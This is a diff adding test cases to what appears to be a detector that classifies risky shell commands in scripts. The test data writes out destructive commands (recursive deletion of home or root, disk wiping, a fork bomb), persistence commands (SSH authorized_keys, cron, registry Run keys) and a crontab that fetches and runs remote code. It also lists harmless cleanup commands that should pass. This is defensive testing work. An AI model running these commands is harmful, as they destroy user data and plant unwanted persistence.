@@ -150,3 +150,76 @@ def test_what_is_too_long_or_too_deep_is_told_not_passed() -> None:
 
 def test_what_is_shown_is_short() -> None:
     assert len(script_risks("curl " + "x" * 5000)[0].command) == 160
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rm -rf ~",
+        'r""m -r -f $HOME/*',
+        "a=~; sudo rm -fr $a/",
+        "rm -rf --no-preserve-root /",
+        "rm -rf *",
+        "rm -rf ../..",
+        "del /f /s /q C:\\\\*",
+        "rd /s /q %USERPROFILE%",
+        "powershell Remove-Item -Recurse -Force $env:USERPROFILE",
+        "find ~ -type f -exec shred -u {} +",
+        "find / -delete",
+        "dd if=/dev/zero of=/dev/sda bs=1M",
+        "cat noise > /dev/nvme0n1",
+        "mkfs.ext4 /dev/sda1",
+        ":(){ :|:& };:",
+        "sh -c 'rm -rf ~/'",
+    ],
+)
+def test_deleting_what_is_not_its_own_is_seen(text: str) -> None:
+    assert worst(text) is ScriptRisk.DESTROYS
+
+
+@pytest.mark.parametrize("text", ["shutdown -h now", "sudo poweroff", "shutdown /s /t 0", "init 0"])
+def test_shutting_down_is_seen(text: str) -> None:
+    assert worst(text) is ScriptRisk.STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo 'export A=1' >> ~/.bashrc",
+        "cp run.sh ~/.config/autostart/run.desktop",
+        "crontab jobs.txt",
+        "cat key.pub >> $HOME/.ssh/authorized_keys",
+        "systemctl --user enable --now sync.service",
+        "launchctl load ~/Library/LaunchAgents/com.sync.plist",
+        "schtasks /create /sc minute /tn sync /tr run.bat",
+        "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v sync /d run.exe",
+        "git config --global core.hooksPath ~/.hooks",
+    ],
+)
+def test_settling_in_is_seen(text: str) -> None:
+    assert worst(text) is ScriptRisk.PERSISTS
+
+
+def test_what_a_crontab_is_given_to_run_is_read() -> None:
+    assert worst('(crontab -l; echo "*/5 * * * * curl -s x | sh") | crontab -') is ScriptRisk.RUNS_FETCHED
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rm -rf dist",
+        "rm -rf dist/* ./build",
+        "cd dist && rm -rf *",
+        'rm -rf "$npm_config_cache"/*',
+        "rimraf ./lib",
+        "rm -f ./x",
+        "rm -rf node_modules/.cache",
+        "find . -name '*.map' -delete",
+        "crontab -l",
+        "git config core.hooksPath .githooks",
+        "echo rm -rf ~",
+        "cp .env.example .env",
+    ],
+)
+def test_cleaning_up_is_no_harm(text: str) -> None:
+    assert worst(text) is None
